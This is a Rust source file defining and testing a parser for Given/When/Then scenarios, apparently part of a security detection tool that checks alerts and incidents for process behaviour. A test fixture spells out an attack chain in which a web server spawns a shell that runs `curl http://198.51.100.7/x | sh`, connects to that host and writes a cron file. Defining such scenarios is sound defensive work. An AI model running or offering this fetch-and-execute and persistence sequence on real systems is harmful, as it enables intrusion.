//! The text of a story: its lines, each in exactly one of the known forms.

mod form;
mod line;

use std::{net::SocketAddr, time::Duration};

use bartizan_model::{FileOperation, Severity};

/// A story as it is written.
#[derive(Debug, Clone)]
pub struct Story {
    /// The file it is in.
    pub file: String,
    /// All of its text.
    pub text: String,
    pub(crate) lines: Vec<(usize, Line)>,
}

/// A line that fits no form.
#[derive(Debug, thiserror::Error, PartialEq, Eq)]
#[error("{file}:{line}: {problem}\n    {text}\nthe nearest form is:\n    {nearest}")]
pub struct StoryError {
    /// The file.
    pub file: String,
    /// The line, from 1.
    pub line: usize,
    /// The line's text.
    pub text: String,
    /// What is wrong with it.
    pub problem: String,
    /// The form that it looks most like.
    pub nearest: &'static str,
}

/// What one line says.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Line {
    Given(Given),
    When(When),
    Then(Then),
}

/// What is there before anything happens.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Given {
    Tenant(String),
    Device(String),
    Process { name: Name, start: Start, under: Option<Name>, on: Option<String> },
}

/// What happens.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum When {
    Act(Name, Act),
    Pass(Duration),
    Offline(String),
    Online(String),
    NextArrivesLate,
    LastBatchTwice,
    EverythingTwice,
    ServerRestarts,
    Resolved(u64),
}

/// What a process does.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Act {
    Runs(Name, Start),
    Forks(Name),
    Becomes(Name, Start),
    Connects { to: SocketAddr, fails: bool, udp: bool },
    Changes(FileOperation, String, Option<String>),
    Ends(Option<u8>),
}

/// How a program is started.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub(crate) struct Start {
    pub(crate) command: Option<String>,
    pub(crate) user: Option<String>,
    pub(crate) directory: Option<String>,
    pub(crate) container: Option<String>,
}

/// What must be said of it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Then {
    Alert { rule: String, severity: Severity, on: Option<Name> },
    Incident { severity: Option<Severity>, device: String, rules: Vec<String> },
    Evidence(Vec<Seen>),
    Nothing,
}

/// A thing that evidence names.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Seen {
    /// Each is the parent of the next.
    Line(Vec<Name>),
    Address(SocketAddr),
    File(String),
}

/// A process as stories call it: `nginx[100]`, the first time also with its path: `/tmp/x[300]`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Name {
    pub(crate) image: String,
    pub(crate) pid: u32,
}

impl Name {
    /// The last part of its path.
    pub(crate) fn file_name(&self) -> &str {
        self.image.rsplit('/').next().unwrap_or(&self.image)
    }
}

impl std::fmt::Display for Name {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}[{}]", self.file_name(), self.pid)
    }
}

impl Story {
    /// Read a story. The first line that fits no form is the error.
    pub fn parse(file: &str, text: &str) -> Result<Self, StoryError> {
        let mut lines = Vec::new();
        for (number, text) in (1..).zip(text.lines()) {
            let said = text.trim();
            if said.is_empty() || said.starts_with('#') {
                continue;
            }
            let line = line::read(said).map_err(|problem| StoryError {
                file: file.to_owned(),
                line: number,
                text: said.to_owned(),
                problem,
                nearest: form::nearest(said),
            })?;
            lines.push((number, line));
        }
        Ok(Self { file: file.to_owned(), text: text.to_owned(), lines })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn error(text: &str) -> String {
        Story::parse("x.scenario", text).map(|_| String::new()).unwrap_or_else(|e| e.to_string())
    }

    #[test]
    fn a_line_that_fits_no_form_names_file_and_line() {
        let said = error("given device web-1 linux\n\nwhen bash[2] wonders about life\n");

        assert!(said.starts_with("x.scenario:3: "), "{said}");
        assert!(said.contains("\n    when bash[2] wonders about life\n"), "{said}");
    }

    #[test]
    fn a_slip_of_the_pen_is_answered_with_the_form_that_was_meant() {
        for (wrong, meant) in [
            ("when nginx[100] rusn sh[200] `sh -c id`", "when P runs NAME[PID] `command` …"),
            ("when sh[2] conects 1.2.3.4:80", "when P connects ADDRESS:PORT"),
            ("when sh[2] renames /a into /b", "when P renames PATH to PATH"),
            ("when the last batch comes twice", "when the last batch arrives twice"),
            ("then alert on sh[2]", "then alert RULE SEVERITY on P"),
            (
                "then an incident on web-1 with a",
                "then incident SEVERITY on DEVICE with RULE, RULE",
            ),
            ("given devise web-1 linux", "given device NAME linux"),
            ("when 10 minutes pass", "when TIME pass"),
        ] {
            let said = error(wrong);
            assert!(said.ends_with(&format!("the nearest form is:\n    {meant}")), "{said}");
        }
    }

    #[test]
    fn what_is_left_over_of_a_line_is_an_error() {
        for line in [
            "given tenant acme today",
            "when a[1] connects 10.0.0.1:80 slowly",
            "when a[1] runs b[2] `b` quickly",
            "when a[1] runs b[2] `b",
            "when a[1] connects 10.0.0.1",
            "when a[] ends",
            "then alert x",
            "then alert x grave on a[1]",
            "then nothing more",
            "perhaps",
        ] {
            assert_ne!(error(line), "", "{line}");
        }
    }

    #[test]
    fn every_form_reads() {
        let text = "
# said in passing
given tenant acme
given device web-1 linux
given process nginx[100] as www-data
given process sh[3] under cron[2] on web-1 `sh -c x`
when nginx[100] runs bash[200] `bash -c \"curl http://198.51.100.7/x | sh\"` as root in /tmp
when bash[200] forks bash[201]
when bash[201] becomes /tmp/x[201] `x`
when x[201] connects 198.51.100.7:80 and fails
when x[201] connects [2001:db8::1]:53 over udp
when x[201] creates /etc/cron.d/x
when x[201] renames /a to /b
when x[201] ends with 3
when 10m pass
when web-1 is offline
when web-1 is online
when the next event arrives late
when the last batch arrives twice
when everything arrives twice
when the server restarts
when incident 1 is resolved
then alert web-server-runs-a-shell high on bash[200]
then incident high on web-1 with a, b
then evidence nginx[100] > bash[200], 198.51.100.7:80, /etc/cron.d/x
then nothing else
";
        assert_eq!(error(text), "");
    }
}
